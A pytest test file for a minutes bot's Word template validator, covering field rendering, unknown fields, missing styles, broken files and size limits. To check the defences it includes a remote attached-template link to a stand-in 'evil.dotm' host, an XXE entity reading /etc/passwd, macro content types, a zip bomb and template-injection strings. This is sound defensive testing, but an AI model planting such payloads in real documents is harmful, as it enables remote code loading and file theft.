"""Test a council's own template: its fields, and errors that name the cause."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx.document import Document as WordFile

from bot.documents import FileFormat, build_document, render_document, validate_template
from bot.documents.make_template import make_template
from bot.documents.template import MAX_BYTES, REQUIRED_STYLES, TEMPLATE_FIELDS
from cards.languages import LOCALES
from cards.texts import Texts
from domain.errors import BadInput
from domain.minutes import compose_minutes
from tests.documents.open_files import TEXTS, opened_word, written
from tests.documents.test_word import saved
from tests.every import every
from tests.minutes.evening import meeting
from tests.minutes.samples import record


def changed(change: Callable[[WordFile], object]) -> bytes:
    """Return the built-in template as edited in Word."""
    word = opened_word(make_template())
    change(word)
    return saved(word)


def with_part(name: str, content: bytes) -> bytes:
    """Return the built-in template with a part added or replaced."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_template())) as old, zipfile.ZipFile(file, "w") as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return file.getvalue()


def fault_of(template: bytes) -> BadInput:
    with pytest.raises(BadInput) as caught:
        validate_template(template)
    for locale in LOCALES:
        assert Texts.of(locale)(f"refusal.{caught.value.code}", **caught.value.values)
    return caught.value


def test_our_own_template_is_one_that_can_be_used() -> None:
    validate_template(make_template())


def test_a_template_shows_every_field_also_where_word_cut_it_into_pieces_and_in_headers_and_tables() -> None:
    def show_all(word: WordFile) -> None:
        for name in TEMPLATE_FIELDS:
            if name != "minutes":
                word.add_paragraph(f"{name}: {{{{{name}}}}}.")
        cut = word.add_paragraph("Plats ")
        for piece in ("{", "{ pl", "ace }", "} och råd {{coun", "cil}}!"):
            cut.add_run(piece)
        word.sections[0].header.paragraphs[0].text = "{{ status }}"
        word.add_table(1, 1).rows[0].cells[0].text = "{{ title }}"

    document = build_document(compose_minutes(record()), TEXTS)
    word = opened_word(
        render_document(document, file_format=FileFormat.DOCX, template=changed(show_all)).content
    )
    shown = [paragraph.text for paragraph in word.paragraphs]
    for name, value in document.fields.items():
        assert f"{name}: {value}." in shown
    assert "Plats Digitalt via Teams och råd Trygghetsrådet i Björkvik!" in shown
    assert [p.text for p in word.sections[0].header.paragraphs] == [
        "UTKAST",
        "Utkast. Anteckningarna är inte färdigställda.",
    ]
    assert word.tables[-1].rows[0].cells[0].text == "Minnesanteckningar: Trygghetsrådet i Björkvik"


def test_the_fields_that_can_be_shown_are_those_that_minutes_have() -> None:
    assert {*build_document(compose_minutes(record()), TEXTS).fields, "minutes"} == set(TEMPLATE_FIELDS)


def test_the_docs_name_just_these_fields() -> None:
    page = (Path(__file__).parents[2] / "docs" / "minutes.md").read_text(encoding="utf-8")
    assert set(re.findall(r"`\{\{ (\w+) \}\}`", page)) == set(TEMPLATE_FIELDS)


def test_the_minutes_stand_where_the_template_wants_them() -> None:
    template = changed(lambda word: word.add_paragraph("Björkviks kommun, Box 1"))
    word = opened_word(
        render_document(
            build_document(compose_minutes(record()), TEXTS), file_format=FileFormat.DOCX, template=template
        ).content
    )
    assert word.paragraphs[0].text == "Minnesanteckningar: Trygghetsrådet i Björkvik"
    assert word.paragraphs[-1].text == "Björkviks kommun, Box 1"


def test_a_field_that_has_nothing_to_show_is_empty() -> None:
    template = changed(lambda word: word.add_paragraph("Plats: {{place}}"))
    document = build_document(compose_minutes(record(meeting=meeting(place=None))), TEXTS)
    word = opened_word(render_document(document, file_format=FileFormat.DOCX, template=template).content)
    assert word.paragraphs[-1].text == "Plats: "


def test_what_a_value_says_is_never_taken_for_a_field() -> None:
    template = changed(lambda word: word.add_paragraph("{{place}} {{council}}"))
    document = build_document(
        compose_minutes(record(meeting=meeting(place="{{title}} {% x %} <w:br/>"))), TEXTS
    )
    word = opened_word(render_document(document, file_format=FileFormat.DOCX, template=template).content)
    assert word.paragraphs[-1].text == "{{title}} {% x %} <w:br/> Trygghetsrådet i Björkvik"


@every("name", ["datum", "title | upper", "title.__class__", "", "Title"])
def test_a_field_that_does_not_exist_is_named(name: str) -> None:
    fault = fault_of(changed(lambda word: word.add_paragraph(f"Den {{{{ {name} }}}}")))
    assert (fault.code, fault.values["name"]) == ("template_unknown_field", name)
    assert fault.values["known"] == TEMPLATE_FIELDS


def test_a_field_in_a_footer_that_does_not_exist_is_named_too() -> None:
    fault = fault_of(changed(lambda word: word.sections[0].footer.add_paragraph("{{ sida }}")))
    assert (fault.code, fault.values["name"]) == ("template_unknown_field", "sida")


@pytest.mark.parametrize("text", ["", "Här: {{ minutes }}", "{{ title }}"])
def test_a_template_without_a_place_for_the_minutes_is_refused(text: str) -> None:
    def put(word: WordFile) -> None:
        word.paragraphs[0].text = text

    fault = fault_of(changed(put))
    assert (fault.code, fault.values["name"]) == ("template_without_field", "minutes")


@every("name", REQUIRED_STYLES)
def test_a_style_that_is_missing_is_named(name: str) -> None:
    def remove(word: WordFile) -> None:
        word.styles[name].delete()

    fault = fault_of(changed(remove))
    assert (fault.code, fault.values["name"]) == ("template_without_style", name)


@every("content", [b"", b"hello", b"PK\x05\x06" + bytes(18), make_template()[:-100]])
def test_what_is_no_word_file_is_refused(content: bytes) -> None:
    assert fault_of(content).code == "template_not_word"


@pytest.mark.parametrize("broken", [b"", b"<w:document", b"<x/>"])
def test_a_word_file_whose_text_is_broken_is_refused(broken: bytes) -> None:
    assert fault_of(with_part("word/document.xml", broken)).code == "template_not_word"


def test_a_spreadsheet_is_no_template() -> None:
    assert fault_of(written(FileFormat.XLSX).content).code == "template_not_word"


REMOTE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://x.example/evil.dotm" TargetMode="External"/></Relationships>'
)


@every(
    ("name", "content"),
    [
        ("word/_rels/settings.xml.rels", REMOTE),
        ("word/extra.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ("word/_rels/vba.xml.rels", b'<a Type="http://x/vbaProject"/>'),
        ("word/more.xml", b'<a ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    ],
)
def test_a_template_that_fetches_something_or_has_macros_is_refused(name: str, content: bytes) -> None:
    assert fault_of(with_part(name, content)).code == "template_unsafe"


def test_a_link_that_one_can_click_on_is_no_danger() -> None:
    link = REMOTE.replace(b"attachedTemplate", b"hyperlink")
    validate_template(with_part("word/_rels/footnotes.xml.rels", link))


def test_a_template_that_is_too_large_packed_or_unpacked_is_refused() -> None:
    assert fault_of(bytes(MAX_BYTES + 1)).code == "template_too_large"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("word/document.xml", bytes(60_000_000))
    assert fault_of(file.getvalue()).code == "template_too_large"
